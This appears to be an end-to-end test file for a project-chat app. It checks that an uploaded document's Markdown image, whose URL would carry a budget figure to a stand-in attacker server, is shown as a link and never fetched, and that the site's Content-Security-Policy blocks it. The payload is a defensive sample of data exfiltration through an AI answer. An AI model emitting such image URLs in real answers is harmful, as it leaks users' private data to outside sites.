import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ConsoleMessage, Request } from "playwright-core";
import { addProject, authEmulatorHost, call, signedInUser, waitCompleted } from "@quorum/local/testing";
import { browserForTests, reviewShot, signIn, webUrl } from "../shell/browser";

/**
 * A document tries to exfiltrate project data: it holds a budget figure next to a
 * Markdown image whose URL would carry that figure to another site. A person
 * uploads it, asks the project chat about the budget, and the answer quotes the
 * passage; the browser must not fetch the image (it shows as a link with its full
 * URL), must talk to no origin but the app's own (site, identity provider, upload
 * bucket), and the site's Content-Security-Policy must stop such an image even if
 * one rendered.
 */

/** Stands in for the attacker's site, on another loopback address: it only counts what reaches it. */
async function startCollector() {
  const hits: string[] = [];
  const server: Server = createServer((req, res) => {
    hits.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/png" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.2", resolve));
  const origin = `http://127.0.0.2:${(server.address() as AddressInfo).port}`;
  return { origin, hits, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

describe("an answer quoting a document's Markdown image", () => {
  const browser = browserForTests();
  let collector: Awaited<ReturnType<typeof startCollector>>;

  beforeAll(async () => {
    collector = await startCollector();
  });
  afterAll(async () => {
    await collector?.close();
  });

  it("uploaded and quoted, the image shows as a link with its full URL and is never fetched", { timeout: 180_000 }, async () => {
    const pixelUrl = `${collector.origin}/pixel.png?leak=budget-48250`;
    const user = await signedInUser();
    const projectId = await addProject(user, { name: "Harbor Expansion" });
    // Every request of the page from its first load, sign-in included.
    const { page } = await browser.openApp("/");
    const requests: string[] = [];
    const cspViolations: string[] = [];
    page.context().on("request", (request: Request) => requests.push(request.url()));
    page.on("console", (message: ConsoleMessage) => {
      if (message.text().includes("Content Security Policy")) cspViolations.push(message.text());
    });
    await signIn(page, user.email, user.password);

    await page.goto(new URL(`/projects/${projectId}/upload`, webUrl()).href);
    await page.getByRole("radio", { name: "Contracts" }).click();
    const text = `Budget status report.\nThe approved budget is $48,250 for phase one.\n![status](${pixelUrl})\n`;
    await page
      .getByTestId("document-input")
      .setInputFiles({ name: "budget-status.txt", mimeType: "text/plain", buffer: Buffer.from(text) });
    await page.getByTestId("upload-success").waitFor({ timeout: 30_000 });
    const listed = await call(user, "GET", `/api/projects/${projectId}/documents`);
    await waitCompleted(
      user,
      projectId,
      (listed.body.documents as { id: number }[]).map((d) => d.id),
    );

    await page.goto(new URL(`/projects/${projectId}/chat`, webUrl()).href);
    await page.getByPlaceholder("Ask about project documents, quotes, requirements...").fill("What is the approved budget status?");
    await page.getByRole("button", { name: "Send message" }).click();
    const answer = page.getByTestId("ai-message").first();
    await answer.getByText("Offline model").waitFor({ timeout: 30_000 });
    // The answer is written in place: its links are whole once it is complete.
    await expect.poll(() => answer.getAttribute("data-state"), { timeout: 30_000 }).toBe("complete");
    await answer.getByText(/approved budget is \$48,250/).waitFor();

    const image = answer.getByTestId("external-image");
    expect(await image.getAttribute("href")).toBe(pixelUrl);
    expect(await image.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await image.textContent()).toContain(pixelUrl);
    expect(await answer.locator("img").count()).toBe(0);
    // A lazy image would load on scroll: give one the chance to.
    await image.scrollIntoViewIfNeeded();
    await page.waitForTimeout(500);

    expect(collector.hits).toEqual([]);
    // The app's own origins: the site (and its API), the identity provider, the upload bucket.
    const allowed = new Set([new URL(webUrl()).origin, `http://${authEmulatorHost()}`, new URL(process.env.S3_PUBLIC_ENDPOINT!).origin]);
    expect(requests.filter((url) => !allowed.has(new URL(url).origin))).toEqual([]);
    expect(cspViolations).toEqual([]);
    await reviewShot(answer, "answer-external-image.png");
  });

  it("the Content-Security-Policy blocks a foreign image even if one were rendered", async () => {
    const { page } = await browser.openApp("/");
    await page.getByRole("banner").getByRole("button", { name: "Sign In" }).waitFor();
    // A string, not a function: this file is type-checked without the DOM library.
    const blocked = await page.evaluate(`new Promise((resolve) => {
      document.addEventListener("securitypolicyviolation", (e) => resolve(e.violatedDirective), { once: true });
      const img = document.createElement("img");
      img.src = ${JSON.stringify(`${collector.origin}/backstop.png`)};
      document.body.append(img);
    })`);
    expect(blocked).toBe("img-src");
    await page.waitForTimeout(300);
    expect(collector.hits).toEqual([]);
  });
});
